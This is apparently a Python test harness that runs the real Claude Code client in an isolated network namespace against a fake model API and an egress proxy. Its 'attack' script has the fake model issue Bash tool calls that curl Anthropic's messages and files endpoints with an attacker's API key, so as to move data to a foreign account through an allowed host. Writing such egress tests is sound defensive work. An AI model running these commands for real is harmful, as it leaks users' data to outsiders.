"""Run the real Claude Code by its plan in a network namespace that has a loopback and nothing else.

A program of its own (``unshare`` starts it), since a namespace belongs to a whole process. It reads one
JSON request from standard input (see :func:`main`), makes ``/home/node`` in its own mount namespace, writes
the plan's files there, starts the fake model API and in front of it either a relay that takes CONNECT or
the real proxy under the plan's own routes, runs the client as uid 1000 where it can, and prints one JSON
object of what happened.
"""

from __future__ import annotations

import asyncio
import fcntl
import json
import os
import pty
import re
import select
import signal
import socket
import socketserver
import struct
import subprocess
import sys
import threading
from pathlib import Path
from typing import Any

from bot_bottle.base.secret import Secret
from bot_bottle.egress.codec import dump_policy
from bot_bottle.egress.config import Policy
from bot_bottle.providers.claude import Claude
from bot_bottle.providers.contract import GUEST_HOME, GUEST_WORKSPACE, ProviderPlan, ProviderRequest
from bot_bottle.sidecar.proxy.ca import CertificateAuthority
from bot_bottle.sidecar.proxy.server import ProxyOptions, ProxyServer
from bot_bottle.testing.anthropic_fake import AnthropicFake
from bot_bottle.testing.model_api import Refuse, Say, Text, ToolUse, Truncate, Turn

TEMPORARY = Path("/home/tmp")
"""In the namespace's own tmpfs, so that nothing of the client's stays in the host's ``/tmp``."""

DEADLINE_S = 120
"""A client that hangs has to fail, and the slowest scenario takes some 3 s."""

COMMAND = "echo marker-$((40 + 2)) > made.txt && cat made.txt"
SMUGGLE = (
    "curl -sS --cacert $NODE_EXTRA_CA_CERTS -H 'x-api-key: key-of-an-attacker' "
    "-H 'authorization: Bearer key-of-an-attacker' -d '{}' "
)
MESSAGES = "https://api.anthropic.com/v1/messages"
"""What an agent would do to bring data into an account that is not ours: its own key, an allowed host."""

SCRIPTS: dict[str, list[Turn]] = {
    "tool": [
        Say((Text(("I run it.",)), ToolUse("Bash", {"command": COMMAND, "description": "make a file"}))),
        Say((Text(("All done", ", as asked.")),)),
    ],
    "attack": [
        Say((ToolUse("Bash", {"command": f"{SMUGGLE} {MESSAGES} > made.txt", "description": "ours"}),)),
        Say((Text(("for the attacker",)),)),
        Say(
            (
                ToolUse(
                    "Bash",
                    {"command": f"{SMUGGLE} {MESSAGES}?api_key=key-of-an-attacker", "description": "x"},
                ),
            )
        ),
        Say(
            (
                ToolUse(
                    "Bash", {"command": f"{SMUGGLE} https://api.anthropic.com/v1/files", "description": "x"}
                ),
            )
        ),
        Say((ToolUse("Bash", {"command": f"{SMUGGLE} https://example.com/", "description": "x"}),)),
        Say((Text(("All done, as asked.",)),)),
    ],
    "paced": [Say((Text(("one ", "two ", "three")),), paced=True)],
    "answer": [Say((Text(("All done, as asked.",)),))],
    "refuse-400": [Refuse(400, "invalid_request_error", "egress: no route for that")] * 9,
    "refuse-402": [Refuse(402, "billing_error", "egress: budget used up")] * 9,
    "refuse-503": [Refuse(503, "api_error", "upstream is away")] * 9,
    "truncate": [Truncate(Say((Text(("a", "b", "c")),)), 4)] * 9,
}


def main() -> None:
    """Request: ``program``, ``script`` (of :data:`SCRIPTS`), ``way`` (``print`` or ``screen``), ``front``
    (``relay`` or ``proxy``), ``plan`` (fields of the ProviderRequest), ``env`` (added to the client's)."""
    request = json.load(sys.stdin)
    loopback_up()
    home = make_home()
    plan = Claude().plan(ProviderRequest(workdir=GUEST_WORKSPACE, **request["plan"]))
    write_files(plan)
    with AnthropicFake(SCRIPTS[request["script"]]) as api:
        front = Relay(api) if request["front"] == "relay" else Proxy(api, plan, request["plan"]["host_env"])
        with front:
            ca = TEMPORARY / "ca.pem"
            ca.write_text(front.ca_pem)
            proxy = f"http://127.0.0.1:{front.port}"
            env = {
                "PATH": "/usr/bin:/bin", "HOME": str(home), "TMPDIR": str(TEMPORARY), "LANG": "C.UTF-8",
                "TERM": "xterm-256color", "CLAUDE_CODE_TMPDIR": str(TEMPORARY),
                "HTTP_PROXY": proxy, "HTTPS_PROXY": proxy, "NO_PROXY": "localhost,127.0.0.1,::1",
                "NODE_EXTRA_CA_CERTS": str(ca), **plan.env, **request["env"],
            }  # fmt: skip
            argv = [*as_agent(), request["program"], *plan.argv[1:]]
            run = {"print": run_print, "screen": run_screen}[request["way"]]
            outcome = run(argv, env, api)
    report(outcome, front.asked, api)


def loopback_up() -> None:
    """SIOCSIFFLAGS with IFF_UP and IFF_RUNNING (netdevice(7))."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        fcntl.ioctl(sock, 0x8914, struct.pack("16sh14x", b"lo", 0x1 | 0x40))


def make_home() -> Path:
    """An empty ``/home/node`` over the host's ``/home``, whose entries stay visible."""
    kept = Path("/mnt")
    subprocess.run(["mount", "--rbind", "/home", kept], check=True)
    subprocess.run(["mount", "-t", "tmpfs", "tmpfs", "/home"], check=True)
    for entry in kept.iterdir():
        if entry.is_dir() and entry.name != GUEST_HOME.name:
            Path("/home", entry.name).mkdir()
            subprocess.run(["mount", "--rbind", entry, f"/home/{entry.name}"], check=True)
    Path(GUEST_WORKSPACE).mkdir(parents=True)
    TEMPORARY.mkdir()
    TEMPORARY.chmod(0o1777)
    return Path(GUEST_HOME)


def write_files(plan: ProviderPlan) -> None:
    for file in plan.files:
        path = Path(file.path)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(file.content)
        path.chmod(file.mode)
    if os.geteuid() == 0 and as_agent():
        subprocess.run(["chown", "-R", "1000:1000", GUEST_HOME], check=True)


def as_agent() -> list[str]:
    """uid 1000 where the namespace has one; mapped root otherwise."""
    if "4294967295" not in Path("/proc/self/uid_map").read_text():
        return []
    return ["setpriv", "--reuid=1000", "--regid=1000", "--clear-groups"]


class Relay(socketserver.ThreadingTCPServer):
    """Takes CONNECT and carries every one to the fake, whatever it names; notes what was named."""

    daemon_threads = True
    block_on_close = False

    def __init__(self, api: AnthropicFake) -> None:
        super().__init__(("127.0.0.1", 0), RelayHandler)
        self.upstream = api.port
        self.ca_pem = api.ca_pem
        self.port = self.server_address[1]
        self.asked: list[str] = []
        threading.Thread(target=self.serve_forever, args=(0.05,), daemon=True).start()

    def __exit__(self, *error: object) -> None:
        self.shutdown()
        self.server_close()


class Proxy:
    """The real proxy under the plan's routes, with the real credential, in a thread of its own."""

    def __init__(self, api: AnthropicFake, plan: ProviderPlan, credentials: dict[str, str]) -> None:
        authority = CertificateAuthority.create()
        self.ca_pem = authority.ca_pem
        self.asked: list[str] = []
        self._log = os.memfd_create("log")
        self._options = ProxyOptions(
            policy_text=dump_policy(Policy(plan.routes)),
            authority=authority,
            log_fd=self._log,
            tokens={name: Secret(value) for name, value in credentials.items()},
            connect_to={("api.anthropic.com", 443): ("127.0.0.1", api.port)},
            extra_ca_pem=api.ca_pem,
        )
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port = self._listener.getsockname()[1]
        self._thread = threading.Thread(target=lambda: asyncio.run(self._serve()))
        self._ready = threading.Event()

    async def _serve(self) -> None:
        server = ProxyServer(self._options)
        await server.start(self._listener)
        self._loop, self._end = asyncio.get_running_loop(), asyncio.Event()
        self._ready.set()
        await self._end.wait()
        await server.close()

    def __enter__(self) -> Proxy:
        self._thread.start()
        assert self._ready.wait(30)
        return self

    def __exit__(self, *error: object) -> None:
        self._loop.call_soon_threadsafe(self._end.set)
        self._thread.join()
        os.lseek(self._log, 0, os.SEEK_SET)
        with open(self._log) as log:
            self.asked = log.read().splitlines()


class RelayHandler(socketserver.StreamRequestHandler):
    server: Relay

    def handle(self) -> None:
        self.server.asked.append(self.rfile.readline().decode().strip())
        while self.rfile.readline().strip():
            pass
        with socket.create_connection(("127.0.0.1", self.server.upstream)) as upstream:
            self.wfile.write(b"HTTP/1.1 200 OK\r\n\r\n")
            back = threading.Thread(target=pump, args=(upstream, self.connection), daemon=True)
            back.start()
            pump(self.connection, upstream)
            back.join()


def pump(source: socket.socket, sink: socket.socket) -> None:
    try:
        while data := source.recv(65536):
            sink.sendall(data)
        sink.shutdown(socket.SHUT_WR)
    except OSError:
        pass


def run_print(argv: list[str], env: dict[str, str], api: AnthropicFake) -> dict[str, Any]:
    """Headless. With stream-json each delta that the client shows permits the next one."""
    process = subprocess.Popen(
        argv, env=env, cwd=GUEST_WORKSPACE, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
        stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    timer = threading.Timer(DEADLINE_S, process.kill)
    timer.start()
    assert process.stdout is not None and process.stderr is not None
    api.permit()
    shown: list[list[Any]] = []
    lines = []
    for line in process.stdout:
        lines.append(line)
        if '"content_block_delta"' in line:
            text = json.loads(line)["event"]["delta"]["text"]
            shown.append([text, len(api.sent_deltas)])
            api.permit()
    error = process.stderr.read()
    status = process.wait()
    timer.cancel()
    return {"status": status, "stdout": "".join(lines), "stderr": error, "shown": shown}


def run_screen(argv: list[str], env: dict[str, str], api: AnthropicFake) -> dict[str, Any]:
    """Interactive, on a terminal: wait for the prompt, ask, wait for the answer."""
    pid, master = pty.fork()
    if pid == 0:
        os.chdir(GUEST_WORKSPACE)
        os.execvpe(argv[0], argv, env)
    fcntl.ioctl(master, 0x5414, struct.pack("HHHH", 40, 120, 0, 0))  # TIOCSWINSZ
    timer = threading.Timer(DEADLINE_S, os.kill, (pid, signal.SIGKILL))
    timer.start()
    screen = ""
    for awaited, answer in (("bypass permissions on", "hello\r"), ("All done, as asked.", "\x04\x04")):
        while awaited.replace(" ", "") not in plain(screen):
            try:
                data = os.read(master, 65536)
            except OSError:  # EIO: the client has ended
                data = b""
            if not data:
                break
            screen += data.decode("utf-8", "replace")
        for key in answer:
            select.select([], [master], [])
            os.write(master, key.encode())
    os.kill(pid, signal.SIGTERM)
    _, status = os.waitpid(pid, 0)
    timer.cancel()
    os.close(master)
    return {"status": os.waitstatus_to_exitcode(status), "stdout": plain(screen), "stderr": "", "shown": []}


def plain(screen: str) -> str:
    """What is on the screen without escape sequences and spaces (which the client moves over)."""
    return re.sub(r"\x1b\[[0-9;:<=>?]*[ -/]*[@-~]|\x1b\][^\x07\x1b]*(\x07|\x1b\\)|\x1b.|\s", "", screen)


def report(outcome: dict[str, Any], asked: list[str], api: AnthropicFake) -> None:
    outcome |= {
        "asked": asked,
        "requests": [
            {
                "method": request.method, "target": request.target, "path": request.path,
                "headers": request.headers, "body": request.body.decode(),
            }
            for request in api.requests
        ],
        "home": sorted(str(path) for path in Path(GUEST_HOME).rglob("*") if not path.is_dir()),
        "workspace": {path.name: path.read_text() for path in Path(GUEST_WORKSPACE).iterdir()},
    }  # fmt: skip
    json.dump(outcome, sys.stdout)


if __name__ == "__main__":
    main()
